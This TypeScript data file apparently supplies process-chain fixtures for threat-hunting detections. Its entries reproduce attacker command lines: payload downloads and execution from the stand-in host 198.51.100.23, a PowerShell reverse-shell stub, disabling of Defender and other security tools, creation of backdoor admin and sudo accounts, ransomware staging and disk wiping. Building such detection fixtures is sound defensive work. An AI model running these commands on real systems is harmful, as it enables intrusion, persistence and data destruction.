/**
 * Process chains (grandparent, parent command line, child command line) of techniques public
 * reporting describes (Microsoft threat intelligence, FireEye, DFIR reports): web shells under
 * IIS, Tomcat and WebLogic, Office and script hosts spawning LOLBins, PsExec-driven ransomware
 * staging, Qakbot and Bazarloader tradecraft, Linux and macOS droppers. Each names whole chains, so
 * hunts on `InitiatingProcessParentFileName` or `InitiatingProcessCommandLine` find them too.
 */
import { HP_TOOL_CHAINS } from './hp-chains-tools.js';

export interface ChainOptions {
  /** The platform the chain runs on (default Windows). */
  os?: 'Linux' | 'macOS';
  /** Runs as SYSTEM (services, web servers) rather than the machine's user. */
  system?: boolean;
  /** Recurs every hour over the last day (beacons, tasks), not only once a day. */
  hourly?: boolean;
  /** Version info of the child, when it differs from its file name (renamed tools). */
  product?: string;
  original?: string;
  description?: string;
  company?: string;
  /** Chains with the same burst run on the same machine within the same hour. */
  burst?: number;
}

export type Chain = readonly [grandparent: string, parent: string, child: string, options?: ChainOptions];

const SYSTEM = { system: true } as const;
const LINUX = { os: 'Linux', system: true } as const;
const MAC = { os: 'macOS' } as const;

export const HP_CHAINS: readonly Chain[] = [
  // Web shells and exploited servers: the service process is the grandparent.
  ['w3wp.exe', 'cmd.exe /c whoami', 'whoami.exe', SYSTEM],
  [
    'w3wp.exe',
    'csc.exe /noconfig /fullpaths @"C:\\Windows\\TEMP\\moveitdmz pool\\x1.cmdline"',
    'cvtres.exe /NOLOGO /READONLY /MACHINE:IX86',
    SYSTEM,
  ],
  [
    'tomcat8.exe',
    'powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
    'cmd.exe /c sc.exe stop WinDefend',
    SYSTEM,
  ],
  [
    'tomcat9.exe',
    "cmd.exe /c powershell iex(New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')",
    "powershell.exe iex(New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')",
    SYSTEM,
  ],
  [
    'tomcat9.exe',
    'java.exe -jar C:\\Program Files\\Apache\\webapps\\app.jar',
    "cmd.exe /c powershell iex(New-Object Net.WebClient).DownloadString('http://198.51.100.23/ldr.ps1')",
    SYSTEM,
  ],
  [
    'wlsvcX64.exe',
    'powershell.exe -nop -w hidden -c "iex(New-Object Net.WebClient).DownloadString(\'http://198.51.100.23/ldr.ps1\')"',
    'schtasks.exe /create /sc minute /mo 5 /tn "Update" /tr "C:\\ProgramData\\sys.exe" /f',
    SYSTEM,
  ],
  [
    'beasvc.exe',
    'cmd.exe /c certutil -urlcache -split -f http://198.51.100.23/s.exe',
    'certutil.exe -urlcache -split -f http://198.51.100.23/s.exe',
    SYSTEM,
  ],
  [
    'services.exe',
    'ws_TomcatService.exe',
    'powershell.exe -c "$c=New-Object Net.Sockets.TCPClient(\'198.51.100.23\',443)"',
    SYSTEM,
  ],
  [
    'services.exe',
    'SolarWinds.BusinessLayerHost.exe',
    'cmd.exe /c echo %USERDOMAIN% > C:\\Windows\\Temp\\d.txt',
    SYSTEM,
  ],
  [
    'services.exe',
    'php-cgi.exe -d allow_url_include=1',
    'cmd.exe /c curl -fsSL http://198.51.100.23/ldr.sh -o ldr.sh || wget -q -O ldr.sh http://198.51.100.23/ldr.sh',
    SYSTEM,
  ],
  ['services.exe', 'sqlservr.exe -sMSSQLSERVER', '"cmd.exe" /c whoami /priv', SYSTEM],
  ['sqlservr.exe', '"cmd.exe" /c C:\\Users\\Public\\svchost.exe', 'svchost.exe', { ...SYSTEM, hourly: true }],
  ['services.exe', 'oracle.exe ORCL', 'cmd.exe /c net user /domain', { ...SYSTEM, hourly: true }],
  ['spoolsv.exe', 'rundll32.exe', 'cmd.exe /c net user admin P@ss1 /add', SYSTEM],
  [
    'svchost.exe',
    'svchost.exe -k LocalServiceNetworkRestricted -p -s WinHttpAutoProxySvc',
    'cmd.exe /c powershell -nop -w hidden',
    SYSTEM,
  ],
  // Office, OneNote, archives and script hosts starting what they should not.
  [
    'explorer.exe',
    'winword.exe /n "C:\\Users\\Public\\Downloads\\invoice.doc"',
    'cmd.exe /c C:\\ProgramData\\calc.hta',
    {},
  ],
  ['explorer.exe', 'winword.exe', 'wmic.exe process call create "mshta C:\\ProgramData\\a.hta"', {}],
  ['explorer.exe', 'excel.exe', 'regsvr32.exe -s ..\\xlsx.ocx', {}],
  [
    'explorer.exe',
    'excel.exe',
    'cmd.exe /c mkdir C:\\Users\\Public\\tmp && copy C:\\Windows\\System32\\certutil.exe C:\\Users\\Public\\tmp\\mshta.exe && certutil.exe -decode a.b b.dll',
    {},
  ],
  ['explorer.exe', 'outlook.exe', 'wscript.exe "C:\\Users\\Public\\Downloads\\invoice.jse"', {}],
  [
    'explorer.exe',
    'outlook.exe',
    'msdt.exe ms-msdt:/id PCWDiagnostic /skip force /param "IT_RebrowseForFile=? IT_BrowseForFile=$(calc)"',
    {},
  ],
  ['explorer.exe', 'ONENOTE.EXE', 'cmd.exe /c C:\\Users\\Public\\Downloads\\open.cmd', {}],
  [
    'ONENOTE.EXE',
    'wscript.exe "C:\\Users\\Public\\Downloads\\invoice.vbs"',
    'powershell.exe -w hidden -c iwr http://198.51.100.23/b.dll -o C:\\ProgramData\\b.dll',
    {},
  ],
  [
    'explorer.exe',
    'WinRAR.exe "C:\\Users\\Public\\Downloads\\statement.rar"',
    'cmd.exe /c "C:\\Users\\Public\\Downloads\\statement.pdf .cmd"',
    {},
  ],
  [
    'WinRAR.exe',
    'cmd.exe /c "statement.pdf .cmd"',
    'powershell.exe -w hidden -c "iwr http://198.51.100.23/s.exe"',
    {},
  ],
  [
    'explorer.exe',
    'wscript.exe "C:\\Users\\Public\\Downloads\\chrome.update.4a2b.js"',
    'powershell.exe -ep bypass -c "iex(iwr http://198.51.100.23/wl.ps1)"',
    {},
  ],
  [
    'explorer.exe',
    'wscript.exe "C:\\Users\\Public\\Downloads\\stolen_images_evidence.js"',
    'wscript.exe "C:\\Users\\Public\\Downloads\\stolen_images_evidence.js" //B',
    {},
  ],
  [
    'wscript.exe',
    'cmd.exe /c start /MIN cscript.exe //E:javascript C:\\ProgramData\\a.txt',
    'cscript.exe //E:javascript C:\\ProgramData\\a.txt',
    {},
  ],
  [
    'explorer.exe',
    'cscript.exe C:\\ProgramData\\r.vbs /shell',
    'cscript.exe C:\\ProgramData\\r.vbs /shell cmd.exe',
    {},
  ],
  [
    'explorer.exe',
    'mshta.exe "javascript:a=GetObject(\'script:http://198.51.100.23/a.sct\')" <script>',
    'powershell.exe -nop -c whoami',
    {},
  ],
  ['powershell.exe', 'mshta.exe http://198.51.100.23/run.hta', 'cmd.exe /c whoami', {}],
  ['explorer.exe', 'invoice.scr /S', 'cmd.exe /c powershell -w hidden -enc SQBFAFgA', {}],
  ['explorer.exe', 'chrome.exe', 'cmd.exe /c whoami', {}],
  ['explorer.exe', 'msedge.exe', 'powershell.exe -nop -w hidden -c "iwr http://198.51.100.23/p.ps1"', {}],
  ['explorer.exe', 'chrome.exe', 'slack.exe --gpu-launcher="cmd /c calc" --', {}],
  // Java RATs and loaders.
  [
    'explorer.exe',
    'javaw.exe -jar C:\\Users\\Public\\AppData\\Roaming\\strrat.jar',
    'cmd.exe /c wmic /node:localhost /namespace:\\\\root\\SecurityCenter2 path antivirusproduct get displayname',
    {},
  ],
  [
    'explorer.exe',
    'javaw.exe -jar C:\\Users\\Public\\AppData\\Roaming\\strrat.jar',
    'cmd.exe /c schtasks /create /sc minute /mo 30 /tn Skype /tr "C:\\Users\\Public\\AppData\\Roaming\\strrat.jar"',
    {},
  ],
  [
    'services.exe',
    'java.exe -jar C:\\app\\server.jar',
    "cmd.exe /c powershell iex(New-Object Net.WebClient).DownloadString('http://198.51.100.23/xmr.ps1')",
    SYSTEM,
  ],
  // PsExec-driven ransomware staging (Macaw, DoppelPaymer, Cypherpunk).
  [
    'PSEXESVC.exe',
    'cmd.exe /c C:\\Windows\\Temp\\a.bat',
    'cmd.exe /c attrib -s -h -r -a C:\\Shares\\*.*',
    SYSTEM,
  ],
  [
    'PSEXESVC.exe',
    'cmd.exe /c C:\\Windows\\Temp\\b.bat',
    'powershell.exe Set-MpPreference -DisableIOAVProtection $true',
    SYSTEM,
  ],
  ['PSEXESVC.exe', 'cmd.exe /c C:\\Windows\\Temp\\c.bat', 'C:\\Windows\\Temp\\locker.exe Dvr /go', SYSTEM],
  ['services.exe', 'PSEXESVC.exe', 'powershell.exe stop-service -name sql*,msexchange* -force', SYSTEM],
  [
    'services.exe',
    'PSEXESVC.exe',
    'cmd.exe /c copy \\\\10.0.0.12\\c$\\Windows\\Temp\\p.exe C:\\Windows\\Temp\\p.exe',
    SYSTEM,
  ],
  [
    'services.exe',
    'PSEXESVC.exe',
    'cmd.exe /c copy \\\\10.0.0.12\\c$\\Windows\\Temp\\run.bat C:\\Windows\\Temp\\run.bat',
    SYSTEM,
  ],
  [
    'services.exe',
    'PSEXESVC.exe',
    'cmd.exe /c copy \\\\10.0.0.12\\c$\\Windows\\Temp\\k.dll C:\\Windows\\Temp\\k.dll',
    SYSTEM,
  ],
  [
    'cmd.exe',
    'cmd.exe /c C:\\Windows\\Temp\\enc.bat',
    'reg.exe add "HKLM\\SOFTWARE\\Policies\\Microsoft\\FVE" /v EnableBDEWithNoTPM /t REG_DWORD /d 1 /f',
    SYSTEM,
  ],
  [
    'wmiprvse.exe',
    'wmiprvse.exe -secured -Embedding',
    'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe C:\\ProgramData\\a.xml',
    SYSTEM,
  ],
  [
    'wmiprvse.exe',
    'wmiprvse.exe -secured -Embedding',
    'powershell.exe -e JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAG8AcgB5AFMAdAByAGUAYQBtACgALABbAEMAbwBuAHYAZQByAHQAXQA6ADoARgByAG8AbQBCAGEAcwBlADYANABTAHQAcgBpAG4AZwAoACIASAA0AHMASQBBAEEAQQBBAEEAQQBBAEEAQQBLADEAVwA=',
    SYSTEM,
  ],
  ['winlogon.exe', 'winlogon.exe', 'cmd.exe /c taskkill /f /im sql* & net stop "Sophos Agent" /y', SYSTEM],
  [
    'cmd.exe',
    'cmd.exe /c C:\\Windows\\Temp\\x.bat',
    'powershell.exe  -command "Set-MpPreference -EnableControlledFolderAccess Disabled"',
    SYSTEM,
  ],
  [
    'svchost.exe',
    'rundll32.exe',
    'schtasks.exe /Change /TN "\\Microsoft\\Windows\\SystemRestore\\SR" /disable',
    SYSTEM,
  ],
  [
    'cmd.exe',
    'cmd.exe /c C:\\Windows\\Temp\\rec.bat',
    'reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v DisableTaskMgr /t REG_DWORD /d "1" /f',
    SYSTEM,
  ],
  [
    'cmd.exe',
    'cmd.exe /c C:\\Windows\\Temp\\rec.bat',
    'reg.exe add HKCU\\Software\\Policies\\Microsoft\\Windows\\System /v DisableCMD /t REG_DWORD /d "1" /f',
    SYSTEM,
  ],
  [
    'cmd.exe',
    'cmd.exe /c C:\\Windows\\Temp\\rec.bat',
    'reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v DisableRegistryTools /t REG_DWORD /d "1" /f',
    SYSTEM,
  ],
  [
    'cmd.exe',
    'cmd.exe /c C:\\Windows\\Temp\\rdp.bat',
    'reg.exe add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\Terminal Services" /v AllowTSConnections /t REG_DWORD /d 1 /f',
    SYSTEM,
  ],
  [
    'explorer.exe',
    'cmd.exe',
    'cmd.exe /c ping 127.0.0.1 -n 6 > nul && del /F /Q C:\\ProgramData\\x.dll && rmdir /S /Q C:\\ProgramData\\x',
    {},
  ],
  [
    'explorer.exe',
    'cmd.exe /c start calc.exe & ping 127.0.0.1 -n 6 & del C:\\ProgramData\\q.dll',
    'ping.exe 127.0.0.1 -n 6',
    {},
  ],
  ['explorer.exe', 'cmd.exe', 'cmd.exe /c C:\\recycler\\s.exe', {}],
  ['cmd.exe', 'cmd.exe', 'cipher.exe /w:D:\\', SYSTEM],
  ...HP_TOOL_CHAINS,
  // Linux and macOS.
  ['bash', '/bin/bash /tmp/ldr.sh', 'service apparmor stop', LINUX],
  ['bash', '/bin/bash /tmp/ldr.sh', 'curl -fsSL http://198.51.100.23/ldr.sh | bash', LINUX],
  ['sshd', '/bin/bash', 'usermod -aG sudo backdoor', LINUX],
  ['sshd', '/bin/bash', 'adduser backdoor sudo', LINUX],
  ['sshd', '/bin/bash', 'echo ZWNobyBoaQ== | base64 --decode > /tmp/e_1a2b', LINUX],
  [
    'NetworkManager',
    '/bin/sh /etc/NetworkManager/dispatcher.d/11-dhclient',
    'bash -c "curl http://198.51.100.23/x | sh"',
    LINUX,
  ],
  [
    'Microsoft Word',
    '/bin/sh -c python',
    "Python -c \"exec(__import__('base64').b64decode('aW1wb3J0IHNvY2tldCxzdWJwcm9jZXNzLG9zO3M9c29ja2V0'))\"",
    MAC,
  ],
  [
    'launchd',
    '/bin/bash -c openssl',
    'openssl enc -aes-256-cbc -d -A -base64 -k 0 -nosalt -in /tmp/a -out /tmp/b',
    MAC,
  ],
  ['launchd', '/bin/sh', 'sh -c cp /tmp/theme0 ~/Library/.SystemPreferences', MAC],
];
